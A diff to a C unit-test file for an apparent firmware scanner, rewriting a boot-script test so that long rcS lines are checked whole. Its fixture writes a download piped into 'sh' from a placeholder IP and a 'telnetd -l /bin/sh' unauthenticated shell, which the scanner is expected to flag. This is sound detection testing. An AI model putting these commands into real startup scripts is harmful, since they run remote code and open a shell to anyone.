@@ -172,23 +172,28 @@ static void test_package_db_caps(void **state)
 	th_rmtree(d);
 }
 
-static void test_boot_line_commands_cap(void **state)
+/* A boot script line of more commands than one batch (PST_CAP_SVC_CMDS)
+ * is examined whole: the shell after the cap is found, and a download piped
+ * across the batch boundary into sh too; no limit.cap, nothing dropped. */
+static void test_boot_line_commands_batched(void **state)
 {
-	char *d = th_tmpdir(), within[4200];
+	char *d = th_tmpdir(), t[4200];
 	struct pst_scan *s;
+	const struct pst_finding *f;
 	(void)state;
-	/* a boot script line of one command past the cap, and one of three */
-	th_sh("mkdir -p %s/t/etc/init.d %s/u/etc/init.d && cd %s && "
-	      "{ echo '#!/bin/sh'; seq 1 %u | sed 's/.*/echo &/' | paste -sd ';' -; } "
-	      "> t/etc/init.d/rcS && printf '#!/bin/sh\\necho 1; echo 2; echo 3\\n' "
-	      "> u/etc/init.d/rcS && chmod +x t/etc/init.d/rcS u/etc/init.d/rcS",
-	      d, d, d, PST_CAP_SVC_CMDS + 1);
-	s = scan_tree(d);
-	assert_cap(s, "/etc/init.d/rcS", "PST_CAP_SVC_CMDS", "/nothing");
-	pst_scan_free(s);
-	snprintf(within, sizeof(within), "%s/u", d);
-	s = th_scan(within, 2);
+	th_sh("mkdir -p %s/t/etc/init.d && cd %s/t && "
+	      "{ echo '#!/bin/sh'; { seq 1 %u | sed 's/.*/echo &/'; "
+	      "echo 'wget -O- http://198.51.100.7/x | sh'; seq 1 %u | sed 's/.*/true &/'; "
+	      "echo 'telnetd -l /bin/sh'; } | paste -sd ';' -; } > etc/init.d/rcS && "
+	      "chmod +x etc/init.d/rcS",
+	      d, d, PST_CAP_SVC_CMDS - 1, PST_CAP_SVC_CMDS + 5);
+	snprintf(t, sizeof(t), "%s/t", d);
+	s = th_scan(t, 2);
 	assert_null(th_finding(s, "limit.cap", NULL));
+	f = th_finding(s, "service.unauthenticated-shell", "/etc/init.d/rcS");
+	assert_non_null(f);
+	assert_non_null(strstr(f->message, "/bin/sh"));
+	assert_non_null(th_finding(s, "service.download-exec", "/etc/init.d/rcS"));
 	pst_scan_free(s);
 	th_rmtree(d);
 }
@@ -202,7 +207,7 @@ int main(void)
 		cmocka_unit_test(test_pem_blocks_cap),
 		cmocka_unit_test(test_script_bytes_cap),
 		cmocka_unit_test(test_package_db_caps),
-		cmocka_unit_test(test_boot_line_commands_cap),
+		cmocka_unit_test(test_boot_line_commands_batched),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
